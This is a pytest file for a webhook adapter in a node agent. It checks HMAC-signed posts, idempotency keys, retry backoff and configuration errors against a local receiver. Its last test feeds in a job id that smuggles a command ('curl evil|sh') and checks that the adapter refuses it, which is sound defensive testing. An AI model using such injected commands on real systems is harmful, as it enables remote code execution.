"""The webhook adapter against a real HTTP receiver on 127.0.0.1 that verifies the HMAC
signature the way a production receiver would (hmac.compare_digest over the raw body).
Only the backoff sleep is injected (recorded instead of slept)."""

from __future__ import annotations

import hashlib
import hmac
import json
import socket
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from node_agent.config import config_from_dict
from node_agent.schedulers import AdapterError, open_adapter
from node_agent.schedulers.webhook import SIGNATURE_HEADER, WebhookAdapter

SECRET = b"s3cret-shared-with-receiver"


class Receiver:
    """Answers each POST with the next status of ``statuses`` (then 200); 401 on a bad signature."""

    def __init__(self, statuses=()):
        self.statuses = list(statuses)
        self.received: list[dict] = []
        rcv = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_POST(self):
                raw = self.rfile.read(int(self.headers["Content-Length"]))
                expected = "sha256=" + hmac.new(SECRET, raw, hashlib.sha256).hexdigest()
                valid = hmac.compare_digest(expected, self.headers.get(SIGNATURE_HEADER, ""))
                rcv.received.append({"body": json.loads(raw), "valid": valid,
                                     "content_type": self.headers.get("Content-Type")})
                code = 401 if not valid else (rcv.statuses.pop(0) if rcv.statuses else 200)
                data = json.dumps({"ok": code == 200, "note": f"answer {code}"}).encode()
                self.send_response(code)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/node-agent"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def receiver():
    rcv = Receiver()
    yield rcv
    rcv.close()


def adapter_for(url: str, tmp_path, retries=3, secret=SECRET):
    secret_file = tmp_path / "webhook.secret"
    secret_file.write_bytes(secret + b"\n")
    config = config_from_dict({"adapter": {"name": "webhook", "webhook": {
        "url": url, "secret_file": str(secret_file), "timeout_s": 2, "retries": retries}}})
    adapter = open_adapter(config)
    assert isinstance(adapter, WebhookAdapter)
    sleeps: list[float] = []
    adapter._sleep = sleeps.append
    return adapter, sleeps


def test_drain_posts_signed_json_with_idempotency_key(receiver, tmp_path):
    adapter, sleeps = adapter_for(receiver.url, tmp_path)
    detail = adapter.drain("gpu-01", "FAULT xid79 gpu:5")
    assert "HTTP 200" in detail
    [got] = receiver.received
    assert got["valid"], "the receiver must verify the HMAC-SHA256 signature"
    assert got["content_type"] == "application/json"
    body = got["body"]
    assert body["action"] == "drain" and body["node"] == "gpu-01"
    assert body["reason"] == "node-agent: FAULT xid79 gpu:5"
    assert len(body["idempotency_key"]) == 64
    assert sleeps == []


def test_same_action_repeated_carries_the_same_idempotency_key(receiver, tmp_path):
    adapter, _ = adapter_for(receiver.url, tmp_path)
    adapter.drain("gpu-01", "FAULT xid79 gpu:5")
    adapter.drain("gpu-01", "FAULT xid79 gpu:5")
    adapter.resume("gpu-01", "FAULT xid79 gpu:5")
    keys = [r["body"]["idempotency_key"] for r in receiver.received]
    assert keys[0] == keys[1] != keys[2]


def test_wrong_secret_is_refused_by_the_receiver_without_retries(receiver, tmp_path):
    adapter, sleeps = adapter_for(receiver.url, tmp_path, secret=b"not-the-secret")
    with pytest.raises(AdapterError, match="HTTP 401"):
        adapter.drain("gpu-01", "FAULT xid79 gpu:5")
    assert [r["valid"] for r in receiver.received] == [False]
    assert sleeps == []


def test_500_is_retried_with_exponential_backoff_then_succeeds(tmp_path):
    rcv = Receiver(statuses=[500, 503])
    try:
        adapter, sleeps = adapter_for(rcv.url, tmp_path, retries=3)
        assert "HTTP 200" in adapter.restart("gpu-01", "ERROR xid48 gpu:3")
        assert len(rcv.received) == 3
        assert sleeps == [1.0, 2.0]
        assert len({r["body"]["idempotency_key"] for r in rcv.received}) == 1
    finally:
        rcv.close()


def test_500_every_time_is_adapter_error_after_retries_with_last_body(tmp_path):
    rcv = Receiver(statuses=[500] * 10)
    try:
        adapter, sleeps = adapter_for(rcv.url, tmp_path, retries=2)
        with pytest.raises(AdapterError, match=r"after 3 attempt\(s\); last: HTTP 500.*answer 500"):
            adapter.drain("gpu-01", "FAULT xid79 gpu:5")
        assert len(rcv.received) == 3
        assert sleeps == [1.0, 2.0]
    finally:
        rcv.close()


def test_receiver_down_is_adapter_error_after_retries(tmp_path):
    with socket.socket() as s:  # a port nothing listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    adapter, sleeps = adapter_for(f"http://127.0.0.1:{port}/hook", tmp_path, retries=2)
    with pytest.raises(AdapterError, match="ConnectionError"):
        adapter.replace("gpu-01", "FAULT row_remap_failure gpu:2")
    assert sleeps == [1.0, 2.0]


def test_missing_secret_file_is_adapter_error_naming_the_key(tmp_path):
    config = config_from_dict({"adapter": {"name": "webhook", "webhook": {
        "url": "http://127.0.0.1:9/x", "secret_file": str(tmp_path / "nope")}}})
    with pytest.raises(AdapterError, match="adapter.webhook.secret_file"):
        open_adapter(config)


def test_missing_url_is_adapter_error_naming_the_key():
    with pytest.raises(AdapterError, match="adapter.webhook.url"):
        open_adapter(config_from_dict({"adapter": {"name": "webhook"}}))


def test_restart_job_posts_signed_event_with_the_job_and_a_per_job_key(receiver, tmp_path):
    adapter, _ = adapter_for(receiver.url, tmp_path)
    reason = "node-agent: ERROR training-hang job slurm:1234 rank:3"
    detail = adapter.restart_job("gpu-01", "slurm:1234", reason)
    assert detail.startswith("webhook: restart-job slurm:1234 on gpu-01 accepted")
    adapter.restart_job("gpu-01", "slurm:1234", reason)
    adapter.restart_job("gpu-01", "slurm:1235", reason)  # another job, same words
    first, again, other = receiver.received
    assert first["valid"]
    body = first["body"]
    assert (body["action"], body["node"], body["job"], body["reason"]) == (
        "restart-job", "gpu-01", "slurm:1234", reason)
    assert first["body"]["idempotency_key"] == again["body"]["idempotency_key"]
    assert other["body"]["idempotency_key"] != first["body"]["idempotency_key"]


def test_restart_job_with_a_hostile_job_id_posts_nothing(receiver, tmp_path):
    adapter, _ = adapter_for(receiver.url, tmp_path)
    with pytest.raises(AdapterError, match="refusing job id"):
        adapter.restart_job("gpu-01", 'slurm:1"; curl evil|sh', "ERROR training-hang")
    assert receiver.received == []
